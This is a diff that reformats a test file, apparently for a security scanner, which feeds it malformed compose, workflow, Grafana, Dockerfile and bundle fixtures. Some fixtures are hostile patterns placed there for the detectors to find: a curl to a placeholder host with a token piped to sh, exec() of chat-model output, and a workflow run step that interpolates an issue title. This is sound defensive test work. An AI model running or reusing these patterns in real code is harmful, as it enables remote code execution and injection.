@@ -17,16 +17,22 @@ describe('every trial on odd input', () => {
         writeFileSync(join(dir.path, path), text)
       }
 
-      w('compose.yaml', [
-        'services:',
-        '  a:',
-        '  b: {image: 42, ports: [6379, {target: 6379}], command: 7, environment: [1, null, "X"], logging: "json-file", deploy: [1]}',
-        '  c: {image: "${UNSET}", volumes: [{}, 3], labels: ["traefik.http.routers.x.rule"], env_file: [{path: 9}]}',
-        '  d: {image: redis, command: ["--port"], ports: ["[::1]::6379"]}',
-        '  e: {image: "minio/minio", command: server, environment: {MINIO_DEFAULT_BUCKETS: null}}',
-        '',
-      ].join('\n'))
-      w('.github/workflows/w.yml', 'on: null\njobs:\n  j: {steps: "nope"}\n  k: {uses: 5, steps: [null, 3, {run: 12}, {uses: null, with: "x"}, {run: "${{ github.event.issue.title"}]}\n')
+      w(
+        'compose.yaml',
+        [
+          'services:',
+          '  a:',
+          '  b: {image: 42, ports: [6379, {target: 6379}], command: 7, environment: [1, null, "X"], logging: "json-file", deploy: [1]}',
+          '  c: {image: "${UNSET}", volumes: [{}, 3], labels: ["traefik.http.routers.x.rule"], env_file: [{path: 9}]}',
+          '  d: {image: redis, command: ["--port"], ports: ["[::1]::6379"]}',
+          '  e: {image: "minio/minio", command: server, environment: {MINIO_DEFAULT_BUCKETS: null}}',
+          '',
+        ].join('\n'),
+      )
+      w(
+        '.github/workflows/w.yml',
+        'on: null\njobs:\n  j: {steps: "nope"}\n  k: {uses: 5, steps: [null, 3, {run: 12}, {uses: null, with: "x"}, {run: "${{ github.event.issue.title"}]}\n',
+      )
       w('.github/workflows/x.yml', 'on: [issues]\njobs: []\n')
       w('grafana/datasources.yaml', 'apiVersion: 1\ndatasources: [null, "x", {secureJsonData: [1, 2]}, {password: {nested: true}}]\n')
       w('prometheus.yml', 'scrape_configs: 5\nglobal: {}\nrule_files: []\n')
@@ -38,7 +44,8 @@ describe('every trial on odd input', () => {
       w('bad.json', '{"Statement": [ "Principal"')
       w('Dockerfile', 'FROM\nARG\nENV =\nUSER\nCOPY\nRUN curl -k\nFROM --platform=$X\n')
       // A 600 KB "minified" line mixing every pattern the text detectors look for.
-      const chunk = 'x=message.content;y=openai.chat.completions.create({m:x});exec(y);curl http://a:b@c?token=' + 'A'.repeat(50) + ' | sh;new WebSocketServer({});'
+      const chunk =
+        'x=message.content;y=openai.chat.completions.create({m:x});exec(y);curl http://a:b@c?token=' + 'A'.repeat(50) + ' | sh;new WebSocketServer({});'
       w('dist/bundle.js', `import 'ws'\n${chunk.repeat(Math.floor(600_000 / chunk.length))}\n`)
       w('scripts/long.sh', `curl ${'-x '.repeat(50_000)}https://example.org\n${'a\\\n'.repeat(20_000)}\n`)
 
